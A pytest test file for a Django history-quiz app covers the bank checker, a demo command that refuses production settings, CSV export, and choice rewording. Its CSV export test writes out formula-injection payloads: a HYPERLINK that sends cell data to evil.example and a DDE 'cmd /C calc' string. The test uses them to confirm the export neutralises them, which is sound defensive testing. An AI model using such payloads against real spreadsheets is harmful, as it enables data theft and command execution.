"""The question bank: loading the fixtures, check_bank, export_bank and the demo command."""

import csv
import io
import os
import sqlite3
import subprocess
import sys
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse

from quizzes.models import Assignment, Classroom, Question, User
from tests import factories

SEEDS = Path(__file__).resolve().parents[3] / "shared" / "seeds"
needs_seeds = pytest.mark.skipif(
    not SEEDS.is_dir(), reason=f"the source texts are not at {SEEDS} (outside our machines)"
)


def run(*args) -> str:
    out = StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def test_check_bank_names_each_problem_of_a_bad_bank(db):
    single = factories.QuestionFactory(with_parts=False)
    factories.CitationFactory(question=single)
    factories.ChoiceFactory(question=single, text="A", is_correct=True)
    factories.ChoiceFactory(question=single, text="B", is_correct=True)
    multiple = factories.QuestionFactory(multiple=True, with_parts=False)
    factories.ChoiceFactory(question=multiple, text="Lenin")
    factories.ChoiceFactory(question=multiple, text="Trotsky")
    ordering = factories.QuestionFactory(ordering=True, with_parts=False)
    factories.OrderingItemFactory(question=ordering)
    matching = factories.QuestionFactory(matching=True, with_parts=False)
    factories.MatchingPairFactory(question=matching)
    twin = factories.QuestionFactory(true_false=True, prompt=single.prompt)
    bare = factories.QuestionFactory(true_false=True, explanation="", with_parts=False)
    wrong_quote = factories.QuestionFactory(true_false=True, with_parts=False)
    factories.CitationFactory(question=wrong_quote, quote="Lenin never said these words at all.")
    out = StringIO()
    args = ["check_bank", "--sources", str(SEEDS)] if SEEDS.is_dir() else ["check_bank"]
    with pytest.raises(CommandError):
        call_command(*args, stdout=out)
    lines = out.getvalue().splitlines()

    def problems_of(question):
        return " / ".join(line for line in lines if line.startswith(f"question {question.pk} "))

    assert "exactly one correct choice, has 2" in problems_of(single)
    assert "multiple-answers question has no correct choice" in problems_of(multiple)
    assert "ordering question has 1 items, fewer than 3" in problems_of(ordering)
    assert "matching question has 1 pairs, fewer than 3" in problems_of(matching)
    assert "duplicate prompt" in problems_of(twin)
    assert "published with no explanation" in problems_of(bare)
    assert "published with no source" in problems_of(bare)
    if SEEDS.is_dir():
        assert "evidence quote not found in 000_bbd3b2b247186d94.txt" in problems_of(wrong_quote)


def test_check_bank_reports_a_numeric_answer_that_does_not_parse():
    from quizzes.bank.rules import question_problems

    problems = question_problems({"type": "numeric", "prompt": "How many?", "number": "ten", "difficulty": 1})
    assert "numeric answer 'ten' does not parse as a number" in problems


def test_demo_sets_up_the_school_and_can_run_twice(db):
    first = run("demo")
    run("demo")
    assert "october1917" in first and "demo-student" in first and "demo-teacher" in first
    assert User.objects.filter(username__in=["admin", "demo-teacher", "demo-student", "demo-student2"]).count() == 4
    assert User.objects.get(username="admin").is_superuser
    assert User.objects.get(username="demo-teacher").check_password("october1917")
    classroom = Classroom.objects.get(name="History 10A")
    assert set(classroom.students.values_list("username", flat=True)) == {"demo-student", "demo-student2"}
    assignments = Assignment.objects.filter(classroom=classroom)
    assert assignments.count() == 2
    assert {a.feedback for a in assignments} == {"each", "submission"}
    assert assignments.get(feedback="submission").time_limit_minutes == 10
    assert all(a.quiz_set.items.count() >= 7 for a in assignments)
    assert {i.question.type for a in assignments for i in a.quiz_set.items.all()} == {t.value for t in Question.Type}
    # The demo teacher owns the demo sets, so they open in the builder.
    teacher = User.objects.get(username="demo-teacher")
    assert all(a.quiz_set.owner == teacher for a in assignments)
    client = Client()
    client.force_login(teacher)
    assert client.get(reverse("set_builder", args=[assignments.first().quiz_set.pk])).status_code == 200


def test_demo_refuses_production_settings(db, settings):
    settings.DEMO_ALLOWED = False
    with pytest.raises(CommandError, match="Refused: these are production settings"):
        run("demo")
    assert not User.objects.exists()


def test_demo_runs_under_production_settings_only_when_told_to(db, settings):
    settings.DEMO_ALLOWED = False
    err = StringIO()
    call_command("demo", "--allow-production", stdout=StringIO(), stderr=err)
    assert "change the demo users' password (october1917) at once" in err.getvalue()
    assert User.objects.get(username="admin").is_superuser


def test_production_settings_refuse_the_demo(tmp_path):
    """The real production settings, in a process of their own: nothing is written to the database."""
    database = tmp_path / "production.sqlite3"
    result = subprocess.run(
        [sys.executable, "manage.py", "demo"],
        cwd=Path(__file__).resolve().parents[2],
        env={
            **os.environ,
            "DJANGO_SETTINGS_MODULE": "october_quiz.settings.prod",
            "SECRET_KEY": "a-real-random-secret-value-for-this-test-1917",
            "DATABASE_URL": f"sqlite:///{database}",
        },
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0
    assert "Refused: these are production settings" in result.stderr
    assert "--allow-production" in result.stderr
    if database.exists():  # opened, perhaps, but nothing migrated or written
        with sqlite3.connect(database) as connection:
            assert connection.execute("select count(*) from sqlite_master").fetchone() == (0,)


# -- export_bank --format csv is formula-safe ---------------------------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_export_bank_csv_shows_teachers_formulas_as_text(db, start):
    """A teacher's question whose text starts like a formula: no cell of the CSV may start one."""
    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    question = factories.QuestionFactory(
        short_text=True, with_parts=False, prompt=attack, explanation=f" {start}cmd|' /C calc'!A0"
    )
    factories.AcceptedAnswerFactory(question=question, text=f"{start}1+1")
    factories.CitationFactory(question=question, quote=f"{start}SUM(1+1)")
    text = run("export_bank", "--format", "csv")
    assert text.startswith("\ufeffid,")
    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert row["prompt"] == "'" + attack
    assert row["answer"] == f"'{start}1+1"
    assert row["evidence"] == f"'{start}SUM(1+1)"
    assert row["explanation"] == f"' {start}cmd|' /C calc'!A0"
    assert not any(cell.lstrip(" ").startswith(tuple(FORMULA_STARTS)) for cell in row.values())


def test_a_reworded_choice_keeps_its_row_so_saved_answers_still_name_it(db):
    """Sharpening a distractor in the files must not cut a student's saved answer off from the choice it chose."""
    from quizzes.bank.fixtures import save_question
    from quizzes.models import Source, Topic

    source = factories.SourceFactory()
    data = {
        "key": "reworded-choice",
        "type": "single",
        "prompt": "Which body met on 10 October?",
        "choices": [
            {"text": "The Central Committee", "correct": True},
            {"text": "The pre-Parliament"},
            {"text": "The Moscow Soviet"},
        ],
        "citations": [{"source": source.file_name, "quote": "The Central Committee met"}],
    }
    sources, topics = {source.file_name: source}, {t.slug: t for t in Topic.objects.all()}
    question = save_question(data, sources=sources, topics=topics)
    before = {c.text: c.pk for c in question.choices.all()}
    data["choices"][1] = {"text": "The Petrograd Soviet's Executive Committee"}
    question = save_question(data, sources=sources, topics=topics)
    after = {c.text: c.pk for c in question.choices.all()}
    assert after["The Petrograd Soviet's Executive Committee"] == before["The pre-Parliament"]
    assert after["The Central Committee"] == before["The Central Committee"]
    assert "The pre-Parliament" not in after and len(after) == 3
    assert Source.objects.count() == 1
